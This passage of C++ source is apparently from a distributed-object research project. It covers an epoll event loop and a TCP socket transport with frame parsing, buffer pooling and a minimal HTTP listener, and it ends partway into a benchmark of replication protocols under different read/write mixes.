  uint64_t undeliverable = 0;         // sends with no route and no learned path
  uint64_t http_requests = 0;
  uint64_t read_buf_swaps = 0;        // read buffer swapped out under pinned views
  uint64_t read_bufs_recycled = 0;    // buffers re-acquired from the freelist

  void Clear() { *this = WireStats(); }
};

// Freelist of receive buffers. A connection's read buffer is handed to delivery
// handlers as pinned views; when the handler stashes a view, the connection
// swaps to a fresh buffer from here and the pinned one returns to the freelist
// when its last view drops — even after the connection (or the transport
// itself) is gone, which is why the freelist is guarded by a weak_ptr.
class BufferPool {
 public:
  BufferPool() : free_list_(std::make_shared<FreeList>()) {}

  // A buffer with no other owners (use_count() == 1), recycled if possible.
  std::shared_ptr<Bytes> Acquire();

  uint64_t recycled() const { return recycled_; }

 private:
  // Bounds idle memory: buffers grow to a connection's high-water mark, so an
  // unbounded freelist could pin many megabytes after a burst of churn.
  static constexpr size_t kMaxFree = 16;
  struct FreeList {
    std::vector<std::unique_ptr<Bytes>> buffers;
  };
  std::shared_ptr<FreeList> free_list_;
  uint64_t recycled_ = 0;
};

class SocketTransport : public sim::Transport {
 public:
  explicit SocketTransport(EventLoop* loop, std::string bind_address = "127.0.0.1");
  ~SocketTransport() override;

  SocketTransport(const SocketTransport&) = delete;
  SocketTransport& operator=(const SocketTransport&) = delete;

  // Opens the frame listener for a hosted node on bind_address:tcp_port
  // (0 = kernel-assigned). Adds a loopback route so locally hosted nodes reach
  // each other over real TCP. Returns the bound port.
  Result<uint16_t> Listen(sim::NodeId node, uint16_t tcp_port = 0);

  // Opens a raw-HTTP listener feeding (node, sim::kPortHttp). Returns the port.
  Result<uint16_t> ListenHttp(sim::NodeId node, uint16_t tcp_port = 0);

  // Teaches the transport where frames addressed to `node` connect to. Listen()
  // installs self-routes automatically; cross-process peers are added here.
  void AddRoute(sim::NodeId node, const std::string& host, uint16_t tcp_port);

  // sim::Transport. Send routes: learned reply path first, then the route
  // table; an unroutable destination fails fast with a transport_error
  // delivery back to the local src port. The span is framed straight into the
  // connection's write buffer — no owned copy, no allocation in steady state.
  void Send(const sim::Endpoint& src, const sim::Endpoint& dst, ByteSpan payload) override;
  void RegisterPort(sim::NodeId node, uint16_t port, sim::TransportHandler handler) override;
  void UnregisterPort(sim::NodeId node, uint16_t port) override;
  sim::Clock* clock() override { return loop_; }

  const WireStats& stats() const { return stats_; }
  WireStats* mutable_stats() { return &stats_; }

 private:
  enum class ConnState : uint8_t { kConnecting, kOpen, kClosed };
  enum class ConnKind : uint8_t { kFrame, kHttp };

  struct Connection {
    int fd = -1;
    ConnState state = ConnState::kConnecting;
    ConnKind kind = ConnKind::kFrame;
    sim::NodeId peer_node = sim::kNoNode;  // outbound: the routed destination
    bool outbound = false;
    bool close_after_flush = false;  // http: one response then hang up
    // Reused buffers — grow to high-water mark, never shrink mid-connection.
    // The read buffer is refcounted: frames are delivered as views into it,
    // and it may only be resized/compacted while the connection is its sole
    // owner (EnsureExclusiveReadBuffer swaps in a fresh pool buffer otherwise).
    std::shared_ptr<Bytes> read_buf;
    size_t read_pos = 0;  // consumed prefix of read_buf
    Bytes write_buf;
    size_t write_pos = 0;
    // (local src, remote dst) endpoint pairs that sent over this connection;
    // on peer loss each local src gets a transport_error delivery naming the
    // remote dst it lost.
    std::set<std::pair<sim::Endpoint, sim::Endpoint>> sent_pairs;
    // http: the synthesized client endpoint of this connection.
    sim::Endpoint http_client;
  };

  Result<int> OpenListener(uint16_t tcp_port, uint16_t* bound_port);
  void AcceptReady(int listen_fd, ConnKind kind, sim::NodeId http_node);
  Connection* ConnectTo(sim::NodeId node);
  void ConnectionReady(const std::shared_ptr<Connection>& conn, uint32_t events);
  void ReadReady(const std::shared_ptr<Connection>& conn);
  void WriteReady(const std::shared_ptr<Connection>& conn);
  void ParseFrames(const std::shared_ptr<Connection>& conn);
  void ParseHttp(const std::shared_ptr<Connection>& conn);
  // Makes conn the sole owner of its read buffer (delivered views pin the old
  // one; the unconsumed tail — a partial frame — is carried over).
  void EnsureExclusiveReadBuffer(Connection* conn);
  void QueueFrame(const std::shared_ptr<Connection>& conn, const sim::Endpoint& src,
                  const sim::Endpoint& dst, ByteSpan payload);
  void QueueBytes(const std::shared_ptr<Connection>& conn, const uint8_t* data,
                  size_t len);
  void FlushWrites(const std::shared_ptr<Connection>& conn);
  void CloseConnection(const std::shared_ptr<Connection>& conn, bool peer_lost);
  void Deliver(sim::TransportDelivery delivery);
  void DeliverError(const sim::Endpoint& local, const sim::Endpoint& lost_peer);
  void UpdateEpollMask(const std::shared_ptr<Connection>& conn);

  EventLoop* loop_;
  std::string bind_address_;
  std::map<std::pair<sim::NodeId, uint16_t>, std::shared_ptr<sim::TransportHandler>>
      handlers_;
  struct Route {
    std::string host;
    uint16_t port = 0;
  };
  std::map<sim::NodeId, Route> routes_;
  struct Listener {
    int fd = -1;
    ConnKind kind = ConnKind::kFrame;
    sim::NodeId node = sim::kNoNode;
  };
  std::vector<Listener> listeners_;
  std::map<int, std::shared_ptr<Connection>> connections_;       // by fd
  std::map<sim::NodeId, std::shared_ptr<Connection>> outbound_;  // by dst node
  // Reply paths learned from inbound frames: src endpoint -> connection.
  std::map<sim::Endpoint, std::shared_ptr<Connection>> learned_;
  uint16_t next_http_slot_ = 1;
  BufferPool read_buf_pool_;
  WireStats stats_;
};

}  // namespace globe::net

#endif  // SRC_NET_SOCKET_TRANSPORT_H_
