// Single-threaded epoll event loop implementing the Clock seam on real time.
//
// This is the socket backend's counterpart to sim::Simulator: the same Clock
// interface (Now / ScheduleAfter / CancelTimer), but "now" is CLOCK_MONOTONIC
// and readiness comes from epoll instead of a virtual event queue. Everything
// above the transport seam — Channel deadlines, retry backoff, dedup TTLs —
// runs unmodified on either implementation.
//
// Threading model: strictly single-threaded. All fd handlers and timers run on
// the thread calling PollOnce/RunUntil/RunFor, never concurrently. Handlers may
// freely watch/unwatch fds and schedule/cancel timers from inside a callback,
// including their own.

#ifndef SRC_NET_EVENT_LOOP_H_
#define SRC_NET_EVENT_LOOP_H_

#include <cstdint>
#include <functional>
#include <map>
#include <memory>
#include <queue>
#include <utility>
#include <vector>

#include "src/sim/clock.h"

namespace globe::net {

class EventLoop : public sim::Clock {
 public:
  EventLoop();
  ~EventLoop() override;

  EventLoop(const EventLoop&) = delete;
  EventLoop& operator=(const EventLoop&) = delete;

  // Clock: microseconds of CLOCK_MONOTONIC elapsed since this loop was built.
  sim::SimTime Now() const override;
  TimerId ScheduleAfter(sim::SimTime delay, std::function<void()> fn) override;
  bool CancelTimer(TimerId id) override;

  // Fd readiness. The handler receives the ready epoll event mask (EPOLLIN,
  // EPOLLOUT, EPOLLERR, EPOLLHUP, EPOLLRDHUP). The loop never owns the fd —
  // callers close it after UnwatchFd.
  using FdHandler = std::function<void(uint32_t events)>;
  void WatchFd(int fd, uint32_t events, FdHandler handler);
  void ModifyFd(int fd, uint32_t events);
  void UnwatchFd(int fd);

  // One poll pass: fires due timers, waits for fd readiness at most
  // `max_wait_us` (clipped to the next timer's due time), dispatches handlers,
  // fires timers that came due meanwhile.
  void PollOnce(sim::SimTime max_wait_us);

  // Polls until pred() is true or `timeout_us` elapses. Returns pred().
  bool RunUntil(const std::function<bool()>& pred, sim::SimTime timeout_us);

  // Polls for a fixed duration.
  void RunFor(sim::SimTime duration_us);

  // Polls until Stop() is called (from a handler or a signal-driven timer).
  void Run();
  void Stop() { stopped_ = true; }

  size_t pending_timers() const { return timers_.size(); }
  int epoll_fd() const { return epoll_fd_; }

 private:
  void FireDueTimers();
  // Microseconds until the next timer is due; SimTime max if none.
  sim::SimTime NextTimerDelay();

  struct Timer {
    sim::SimTime due;
    std::function<void()> fn;
  };
  struct HeapEntry {
    sim::SimTime due;
    TimerId id;  // tie-breaker: scheduling order
    bool operator>(const HeapEntry& o) const {
      return due != o.due ? due > o.due : id > o.id;
    }
  };

  int epoll_fd_ = -1;
  uint64_t start_ns_ = 0;
  TimerId next_timer_id_ = 1;
  bool stopped_ = false;
  std::map<TimerId, Timer> timers_;
  // Min-heap over (due, id); cancelled entries are skipped lazily (their id is
  // gone from timers_).
  std::priority_queue<HeapEntry, std::vector<HeapEntry>, std::greater<>> heap_;
  // shared_ptr so a handler that unwatches (even its own fd) mid-dispatch never
  // destroys the std::function the loop is executing.
  std::map<int, std::shared_ptr<FdHandler>> fd_handlers_;
};

}  // namespace globe::net

#endif  // SRC_NET_EVENT_LOOP_H_
