#include "src/net/socket_transport.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cassert>
#include <cctype>

#include "src/util/log.h"

namespace globe::net {

namespace {

// Frame header past the u32 length word: src node/port, dst node/port.
constexpr size_t kFrameHeaderBytes = 12;
constexpr size_t kReadChunk = 64 * 1024;

void PutU16(Bytes* out, uint16_t v) {
  out->push_back(static_cast<uint8_t>(v));
  out->push_back(static_cast<uint8_t>(v >> 8));
}

void PutU32(Bytes* out, uint32_t v) {
  out->push_back(static_cast<uint8_t>(v));
  out->push_back(static_cast<uint8_t>(v >> 8));
  out->push_back(static_cast<uint8_t>(v >> 16));
  out->push_back(static_cast<uint8_t>(v >> 24));
}

uint16_t GetU16(const uint8_t* p) {
  return static_cast<uint16_t>(p[0] | (p[1] << 8));
}

uint32_t GetU32(const uint8_t* p) {
  return static_cast<uint32_t>(p[0]) | (static_cast<uint32_t>(p[1]) << 8) |
         (static_cast<uint32_t>(p[2]) << 16) | (static_cast<uint32_t>(p[3]) << 24);
}

void SetNoDelay(int fd) {
  int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
}

// Scans an HTTP header block for Content-Length (case-insensitive). Returns 0
// if absent — GETs carry no body.
size_t ParseContentLength(const uint8_t* headers, size_t len) {
  static constexpr char kName[] = "content-length:";
  constexpr size_t kNameLen = sizeof(kName) - 1;
  for (size_t i = 0; i + kNameLen <= len; ++i) {
    size_t j = 0;
    while (j < kNameLen &&
           std::tolower(static_cast<unsigned char>(headers[i + j])) == kName[j]) {
      ++j;
    }
    if (j < kNameLen) {
      continue;
    }
    size_t pos = i + kNameLen;
    while (pos < len && headers[pos] == ' ') {
      ++pos;
    }
    size_t value = 0;
    while (pos < len && headers[pos] >= '0' && headers[pos] <= '9') {
      value = value * 10 + (headers[pos] - '0');
      ++pos;
    }
    return value;
  }
  return 0;
}

}  // namespace

std::shared_ptr<Bytes> BufferPool::Acquire() {
  std::unique_ptr<Bytes> buf;
  if (!free_list_->buffers.empty()) {
    buf = std::move(free_list_->buffers.back());
    free_list_->buffers.pop_back();
    ++recycled_;
  } else {
    buf = std::make_unique<Bytes>();
  }
  // The deleter runs when the last pinned view drops — possibly long after
  // this pool (transport) is gone, hence the weak_ptr guard.
  std::weak_ptr<FreeList> weak = free_list_;
  return std::shared_ptr<Bytes>(buf.release(), [weak](Bytes* b) {
    if (auto fl = weak.lock(); fl && fl->buffers.size() < kMaxFree) {
      b->clear();
      fl->buffers.emplace_back(b);
    } else {
      delete b;
    }
  });
}

SocketTransport::SocketTransport(EventLoop* loop, std::string bind_address)
    : loop_(loop), bind_address_(std::move(bind_address)) {}

SocketTransport::~SocketTransport() {
  for (auto& [fd, conn] : connections_) {
    loop_->UnwatchFd(fd);
    close(fd);
    conn->state = ConnState::kClosed;
  }
  connections_.clear();
  for (const Listener& listener : listeners_) {
    loop_->UnwatchFd(listener.fd);
    close(listener.fd);
  }
}

Result<int> SocketTransport::OpenListener(uint16_t tcp_port, uint16_t* bound_port) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) {
    return Internal("socket(): " + std::string(strerror(errno)));
  }
  int one = 1;
  setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));

  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(tcp_port);
  if (inet_pton(AF_INET, bind_address_.c_str(), &addr.sin_addr) != 1) {
    close(fd);
    return InvalidArgument("bad bind address: " + bind_address_);
  }
  if (bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    Status err = Unavailable("bind(" + bind_address_ + ":" + std::to_string(tcp_port) +
                             "): " + strerror(errno));
    close(fd);
    return err;
  }
  if (listen(fd, 64) != 0) {
    Status err = Internal("listen(): " + std::string(strerror(errno)));
    close(fd);
    return err;
  }
  sockaddr_in bound{};
  socklen_t blen = sizeof(bound);
  getsockname(fd, reinterpret_cast<sockaddr*>(&bound), &blen);
  *bound_port = ntohs(bound.sin_port);
  return fd;
}

Result<uint16_t> SocketTransport::Listen(sim::NodeId node, uint16_t tcp_port) {
  uint16_t bound = 0;
  ASSIGN_OR_RETURN(int fd, OpenListener(tcp_port, &bound));
  listeners_.push_back(Listener{fd, ConnKind::kFrame, node});
  loop_->WatchFd(fd, EPOLLIN, [this, fd, node](uint32_t) {
    AcceptReady(fd, ConnKind::kFrame, node);
  });
  AddRoute(node, bind_address_, bound);
  return bound;
}

Result<uint16_t> SocketTransport::ListenHttp(sim::NodeId node, uint16_t tcp_port) {
  uint16_t bound = 0;
  ASSIGN_OR_RETURN(int fd, OpenListener(tcp_port, &bound));
  listeners_.push_back(Listener{fd, ConnKind::kHttp, node});
  loop_->WatchFd(fd, EPOLLIN, [this, fd, node](uint32_t) {
    AcceptReady(fd, ConnKind::kHttp, node);
  });
  return bound;
}

void SocketTransport::AddRoute(sim::NodeId node, const std::string& host,
                               uint16_t tcp_port) {
  routes_[node] = Route{host, tcp_port};
}

void SocketTransport::RegisterPort(sim::NodeId node, uint16_t port,
                                   sim::TransportHandler handler) {
  handlers_[{node, port}] = std::make_shared<sim::TransportHandler>(std::move(handler));
}

void SocketTransport::UnregisterPort(sim::NodeId node, uint16_t port) {
  handlers_.erase({node, port});
}

void SocketTransport::QueueFrame(const std::shared_ptr<Connection>& conn,
                                 const sim::Endpoint& src, const sim::Endpoint& dst,
                                 ByteSpan payload) {
  conn->sent_pairs.insert({src, dst});
  Bytes* buf = &conn->write_buf;
  PutU32(buf, static_cast<uint32_t>(kFrameHeaderBytes + payload.size()));
  PutU32(buf, src.node);
  PutU16(buf, src.port);
  PutU32(buf, dst.node);
  PutU16(buf, dst.port);
  buf->insert(buf->end(), payload.begin(), payload.end());
  ++stats_.frames_sent;
  stats_.bytes_sent += 4 + kFrameHeaderBytes + payload.size();
  FlushWrites(conn);  // no-op while still kConnecting; drains on completion
}

void SocketTransport::Send(const sim::Endpoint& src, const sim::Endpoint& dst,
                           ByteSpan payload) {
  if (payload.size() > sim::kMaxFrameBytes) {
    ++stats_.oversized_rejected;
    GLOG_WARN << "socket transport refusing oversized frame (" << payload.size()
              << " bytes) from " << ToString(src) << " to " << ToString(dst);
    return;  // same silent drop as the simulated network; deadlines recover
  }

  // Learned reply path: the connection the destination's traffic arrived on.
  auto learned = learned_.find(dst);
  if (learned != learned_.end() && learned->second->state != ConnState::kClosed) {
    const std::shared_ptr<Connection>& conn = learned->second;
    if (conn->kind == ConnKind::kHttp) {
      // Raw HTTP response: no framing, one response per HTTP/1.0 connection.
      QueueBytes(conn, payload.data(), payload.size());
      stats_.bytes_sent += payload.size();
      conn->close_after_flush = true;
      FlushWrites(conn);
      return;
    }
    QueueFrame(conn, src, dst, payload);
    return;
  }

  // Route table: connect (or reuse the connection) to the destination node.
  if (routes_.count(dst.node) > 0) {
    auto existing = outbound_.find(dst.node);
    std::shared_ptr<Connection> conn;
    if (existing != outbound_.end() && existing->second->state != ConnState::kClosed) {
      conn = existing->second;
    } else if (Connection* fresh = ConnectTo(dst.node)) {
      conn = connections_.at(fresh->fd);
    } else {
      ++stats_.undeliverable;
      DeliverError(src, dst);
      return;
    }
    QueueFrame(conn, src, dst, payload);
    return;
  }

  // No path at all: fail fast so retries / error handling engage immediately.
  ++stats_.undeliverable;
  GLOG_WARN << "socket transport has no route to " << ToString(dst);
  DeliverError(src, dst);
}

SocketTransport::Connection* SocketTransport::ConnectTo(sim::NodeId node) {
  const Route& route = routes_.at(node);
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) {
    return nullptr;
  }
  SetNoDelay(fd);

  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(route.port);
  if (inet_pton(AF_INET, route.host.c_str(), &addr.sin_addr) != 1) {
    close(fd);
    return nullptr;
  }
  int rc = connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr));
  if (rc != 0 && errno != EINPROGRESS) {
    close(fd);
    return nullptr;
  }

  auto conn = std::make_shared<Connection>();
  conn->fd = fd;
  conn->state = rc == 0 ? ConnState::kOpen : ConnState::kConnecting;
  conn->kind = ConnKind::kFrame;
  conn->peer_node = node;
  conn->outbound = true;
  conn->read_buf = read_buf_pool_.Acquire();
  stats_.read_bufs_recycled = read_buf_pool_.recycled();
  connections_[fd] = conn;
  outbound_[node] = conn;
  ++stats_.connections_opened;

  loop_->WatchFd(fd, EPOLLIN | EPOLLOUT | EPOLLRDHUP,
                 [this, conn](uint32_t events) { ConnectionReady(conn, events); });
  return conn.get();
}

void SocketTransport::AcceptReady(int listen_fd, ConnKind kind, sim::NodeId http_node) {
  while (true) {
    int fd = accept4(listen_fd, nullptr, nullptr, SOCK_NONBLOCK | SOCK_CLOEXEC);
    if (fd < 0) {
      return;  // EAGAIN or transient error; epoll re-arms
    }
    SetNoDelay(fd);
    auto conn = std::make_shared<Connection>();
    conn->fd = fd;
    conn->state = ConnState::kOpen;
    conn->kind = kind;
    conn->outbound = false;
    conn->read_buf = read_buf_pool_.Acquire();
    stats_.read_bufs_recycled = read_buf_pool_.recycled();
    connections_[fd] = conn;
    ++stats_.connections_accepted;
    if (kind == ConnKind::kHttp) {
      conn->peer_node = http_node;  // the hosted node whose httpd this feeds
      conn->http_client = sim::Endpoint{kHttpClientNode, next_http_slot_++};
      if (next_http_slot_ == 0) {
        next_http_slot_ = 1;
      }
      learned_[conn->http_client] = conn;
    }
    loop_->WatchFd(fd, EPOLLIN | EPOLLRDHUP,
                   [this, conn](uint32_t events) { ConnectionReady(conn, events); });
  }
}

void SocketTransport::ConnectionReady(const std::shared_ptr<Connection>& conn,
                                      uint32_t events) {
  if (conn->state == ConnState::kClosed) {
    return;
  }
  if (conn->state == ConnState::kConnecting) {
    int err = 0;
    socklen_t len = sizeof(err);
    getsockopt(conn->fd, SOL_SOCKET, SO_ERROR, &err, &len);
    if (err != 0 || (events & (EPOLLERR | EPOLLHUP)) != 0) {
      CloseConnection(conn, /*peer_lost=*/true);  // connection refused
      return;
    }
    conn->state = ConnState::kOpen;
    FlushWrites(conn);
    if (conn->state == ConnState::kClosed) {
      return;
    }
    UpdateEpollMask(conn);
  }
  if ((events & EPOLLERR) != 0) {
    CloseConnection(conn, /*peer_lost=*/true);
    return;
  }
  if ((events & (EPOLLIN | EPOLLRDHUP | EPOLLHUP)) != 0) {
    ReadReady(conn);
    if (conn->state == ConnState::kClosed) {
      return;
    }
  }
  if ((events & EPOLLOUT) != 0) {
    FlushWrites(conn);
  }
}

void SocketTransport::EnsureExclusiveReadBuffer(Connection* conn) {
  if (conn->read_buf.use_count() == 1) {
    return;
  }
  // Delivered views still pin the buffer: growing it could reallocate and
  // dangle every one of them. Swap in a fresh pool buffer, carrying over only
  // the unconsumed tail (at most one partial frame); the pinned buffer returns
  // to the freelist when its last view drops.
  std::shared_ptr<Bytes> fresh = read_buf_pool_.Acquire();
  stats_.read_bufs_recycled = read_buf_pool_.recycled();
  fresh->assign(conn->read_buf->begin() + static_cast<ptrdiff_t>(conn->read_pos),
                conn->read_buf->end());
  conn->read_buf = std::move(fresh);
  conn->read_pos = 0;
  ++stats_.read_buf_swaps;
}

void SocketTransport::ReadReady(const std::shared_ptr<Connection>& conn) {
  while (true) {
    EnsureExclusiveReadBuffer(conn.get());
    Bytes& buf = *conn->read_buf;
    size_t old_size = buf.size();
    buf.resize(old_size + kReadChunk);
    ssize_t n = recv(conn->fd, buf.data() + old_size, kReadChunk, 0);
    if (n > 0) {
      buf.resize(old_size + static_cast<size_t>(n));
      stats_.bytes_received += static_cast<uint64_t>(n);
      if (conn->kind == ConnKind::kFrame) {
        ParseFrames(conn);
      } else {
        ParseHttp(conn);
      }
      if (conn->state == ConnState::kClosed) {
        return;
      }
      continue;
    }
    buf.resize(old_size);
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) {
      return;
    }
    if (n < 0 && errno == EINTR) {
      continue;
    }
    // EOF or hard error. An HTTP client hanging up after its response is the
    // protocol working; anything else is peer loss.
    bool peer_lost = conn->kind == ConnKind::kFrame;
    CloseConnection(conn, peer_lost);
    return;
  }
}

void SocketTransport::ParseFrames(const std::shared_ptr<Connection>& conn) {
  // The buffer is never resized inside this loop, so payload views stay valid
  // across deliveries even while earlier frames' views are still pinned.
  Bytes& buf = *conn->read_buf;
  while (conn->state != ConnState::kClosed) {
    size_t available = buf.size() - conn->read_pos;
    if (available < 4) {
      break;
    }
    const uint8_t* base = buf.data() + conn->read_pos;
    uint32_t frame_len = GetU32(base);
    if (frame_len < kFrameHeaderBytes ||
        frame_len - kFrameHeaderBytes > sim::kMaxFrameBytes) {
      // A corrupt or hostile length prefix must never drive an unbounded
      // allocation: kill the connection instead of trusting it.
      ++stats_.oversized_rejected;
      GLOG_WARN << "socket transport closing connection on bad frame length "
                << frame_len;
      CloseConnection(conn, /*peer_lost=*/true);
      return;
    }
    if (available < 4 + static_cast<size_t>(frame_len)) {
      break;  // partial frame; wait for more bytes
    }

    sim::TransportDelivery delivery;
    delivery.src.node = GetU32(base + 4);
    delivery.src.port = GetU16(base + 8);
    delivery.dst.node = GetU32(base + 10);
    delivery.dst.port = GetU16(base + 14);
    size_t payload_len = frame_len - kFrameHeaderBytes;
    const uint8_t* payload = base + 4 + kFrameHeaderBytes;
    // Zero-copy delivery: the payload is a pinned view straight into the read
    // buffer. A handler that stashes it keeps the buffer alive; the next
    // ReadReady then swaps the connection onto a fresh pool buffer.
    delivery.payload =
        sim::PayloadView(conn->read_buf, ByteSpan(payload, payload_len));
    conn->read_pos += 4 + frame_len;
    ++stats_.frames_received;

    // Learn the reply path: frames back to this source ride this connection.
    learned_[delivery.src] = conn;
    Deliver(std::move(delivery));
  }
  if (conn->read_pos > 0 && conn->state != ConnState::kClosed &&
      conn->read_buf.use_count() == 1) {
    // Compact the consumed prefix in place; capacity is retained across
    // frames. Skipped while views pin the buffer — the next ReadReady swaps
    // it out instead.
    buf.erase(buf.begin(), buf.begin() + static_cast<ptrdiff_t>(conn->read_pos));
    conn->read_pos = 0;
  }
}

void SocketTransport::ParseHttp(const std::shared_ptr<Connection>& conn) {
  Bytes& buf = *conn->read_buf;
  while (conn->state != ConnState::kClosed) {
    size_t available = buf.size() - conn->read_pos;
    if (available == 0) {
      break;
    }
    const uint8_t* base = buf.data() + conn->read_pos;
    // Find the end of the header block.
    size_t header_end = 0;
    for (size_t i = 3; i < available; ++i) {
      if (base[i - 3] == '\r' && base[i - 2] == '\n' && base[i - 1] == '\r' &&
          base[i] == '\n') {
        header_end = i + 1;
        break;
      }
    }
    if (header_end == 0) {
      if (available > sim::kMaxFrameBytes) {
        ++stats_.oversized_rejected;
        CloseConnection(conn, /*peer_lost=*/false);
        return;
      }
      break;  // headers incomplete
    }
    size_t body_len = ParseContentLength(base, header_end);
    if (body_len > sim::kMaxFrameBytes) {
      ++stats_.oversized_rejected;
      CloseConnection(conn, /*peer_lost=*/false);
      return;
    }
    size_t request_len = header_end + body_len;
    if (available < request_len) {
      break;  // body incomplete
    }

    ++stats_.http_requests;
    sim::TransportDelivery delivery;
    delivery.src = conn->http_client;
    delivery.dst = sim::Endpoint{conn->peer_node, sim::kPortHttp};
    delivery.payload = sim::PayloadView(conn->read_buf, ByteSpan(base, request_len));
    conn->read_pos += request_len;
    Deliver(std::move(delivery));
  }
  if (conn->read_pos > 0 && conn->state != ConnState::kClosed &&
      conn->read_buf.use_count() == 1) {
    buf.erase(buf.begin(), buf.begin() + static_cast<ptrdiff_t>(conn->read_pos));
    conn->read_pos = 0;
  }
}

void SocketTransport::QueueBytes(const std::shared_ptr<Connection>& conn,
                                 const uint8_t* data, size_t len) {
  conn->write_buf.insert(conn->write_buf.end(), data, data + len);
}

void SocketTransport::FlushWrites(const std::shared_ptr<Connection>& conn) {
  if (conn->state != ConnState::kOpen) {
    return;  // queued bytes drain when the connect completes
  }
  while (conn->write_pos < conn->write_buf.size()) {
    size_t remaining = conn->write_buf.size() - conn->write_pos;
    ssize_t n = ::send(conn->fd, conn->write_buf.data() + conn->write_pos, remaining,
                       MSG_NOSIGNAL);
    if (n > 0) {
      conn->write_pos += static_cast<size_t>(n);
      continue;
    }
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) {
      UpdateEpollMask(conn);  // wait for EPOLLOUT
      return;
    }
    if (n < 0 && errno == EINTR) {
      continue;
    }
    CloseConnection(conn, /*peer_lost=*/conn->kind == ConnKind::kFrame);
    return;
  }
  // Fully drained: reset the buffer (capacity retained) and drop EPOLLOUT.
  conn->write_buf.clear();
  conn->write_pos = 0;
  if (conn->close_after_flush) {
    CloseConnection(conn, /*peer_lost=*/false);
    return;
  }
  UpdateEpollMask(conn);
}

void SocketTransport::UpdateEpollMask(const std::shared_ptr<Connection>& conn) {
  uint32_t events = EPOLLIN | EPOLLRDHUP;
  if (conn->state == ConnState::kConnecting ||
      conn->write_pos < conn->write_buf.size()) {
    events |= EPOLLOUT;
  }
  loop_->ModifyFd(conn->fd, events);
}

void SocketTransport::CloseConnection(const std::shared_ptr<Connection>& conn,
                                      bool peer_lost) {
  if (conn->state == ConnState::kClosed) {
    return;
  }
  conn->state = ConnState::kClosed;
  loop_->UnwatchFd(conn->fd);
  close(conn->fd);
  connections_.erase(conn->fd);
  if (conn->outbound) {
    auto it = outbound_.find(conn->peer_node);
    if (it != outbound_.end() && it->second == conn) {
      outbound_.erase(it);
    }
  }
  for (auto it = learned_.begin(); it != learned_.end();) {
    it = it->second == conn ? learned_.erase(it) : std::next(it);
  }
  if (peer_lost) {
    ++stats_.disconnects;
    // Every local endpoint that sent over this connection learns its peer is
    // gone, so in-flight RPCs fail fast with UNAVAILABLE and retries engage.
    for (const auto& [local_src, remote_dst] : conn->sent_pairs) {
      DeliverError(local_src, remote_dst);
    }
  }
}

void SocketTransport::Deliver(sim::TransportDelivery delivery) {
  auto it = handlers_.find({delivery.dst.node, delivery.dst.port});
  if (it == handlers_.end()) {
    return;  // no listener on this port; same silent drop as the simulator
  }
  // Pin: the handler may unregister its own port mid-delivery.
  std::shared_ptr<sim::TransportHandler> handler = it->second;
  (*handler)(delivery);
}

void SocketTransport::DeliverError(const sim::Endpoint& local,
                                   const sim::Endpoint& lost_peer) {
  // Deferred: Transport's contract is that handlers never run inside Send().
  loop_->ScheduleAfter(0, [this, local, lost_peer]() {
    sim::TransportDelivery delivery;
    delivery.src = lost_peer;
    delivery.dst = local;
    delivery.transport_error = true;
    Deliver(std::move(delivery));
  });
}

}  // namespace globe::net
