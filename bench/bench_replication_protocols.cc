// E7 — replication protocols under varying read/write mixes (paper §3.2-3.3).
//
// Claim: replication subobjects are interchangeable per object, and different
// protocols suit different access patterns — "one object may actively replicate all
// the state at all the local representatives while another may use lazy replication."
//
// Workload: one master + two secondary replicas (or caches) on distant continents;
// 300 operations at mixes from read-only to write-heavy, driven through a
// same-continent client at each replica. Metrics: mean operation latency, WAN bytes,
// and staleness (max version lag observed at secondaries after each write).
//
// Expected shape: client/server is flat (every op crosses the WAN); master/slave and
// active replication win reads but pay per write (full state vs invocation — active
// replication's WAN cost stays small for small writes on a large object);
// cache/invalidate wins read-heavy mixes and degrades as invalidations force
// re-fetches.

#include "bench/bench_util.h"
#include "src/dso/protocols.h"
#include "src/dso/active_repl.h"
#include "src/dso/cache_inval.h"
#include "src/dso/client_server.h"
#include "src/dso/master_slave.h"
#include "src/gdn/package.h"
#include "src/sim/backend.h"

using namespace globe;
using bench::Fmt;

namespace {

constexpr int kOperations = 300;
constexpr size_t kBaseStateBytes = 200000;  // large object, small updates

struct MixResult {
  double mean_op_ms = 0;
  uint64_t wan_bytes = 0;
  uint64_t max_staleness = 0;
};

// Builds a replica set of `protocol` over a fresh world and runs the mix.
MixResult RunMix(gls::ProtocolId protocol, double write_fraction) {
  sim::Simulator simulator;
  sim::UniformWorld world = sim::BuildUniformWorld({3, 2}, 2);
  sim::Network network(&simulator, &world.topology);
  sim::PlainTransport transport(&network);

  auto make_package = [] {
    auto package = std::make_unique<gdn::PackageObject>();
    auto init = gdn::pkg::AddFile("base", Bytes(kBaseStateBytes, 0x11));
    (void)package->Invoke(init);
    return package;
  };

  // Master on continent 0; secondaries on continents 1 and 2.
  std::vector<std::unique_ptr<dso::ReplicationObject>> replicas;
  dso::ReplicaSetup master_setup;
  master_setup.transport = &transport;
  master_setup.host = world.hosts[0];
  master_setup.semantics = make_package();
  master_setup.role = gls::ReplicaRole::kMaster;
  auto master = dso::MakeReplica(protocol, std::move(master_setup));
  if (!master.ok()) {
    std::printf("master creation failed\n");
    std::exit(1);
  }
  replicas.push_back(std::move(*master));

  for (sim::NodeId host : {world.hosts[4], world.hosts[8]}) {
    dso::ReplicaSetup setup;
    setup.transport = &transport;
    setup.host = host;
    setup.semantics = std::make_unique<gdn::PackageObject>();
    setup.role = protocol == dso::kProtoCacheInval ? gls::ReplicaRole::kCache
                                                   : gls::ReplicaRole::kSlave;
    setup.peers = {*replicas[0]->contact_address()};
    auto replica = dso::MakeReplica(protocol, std::move(setup));
    if (replica.ok()) {
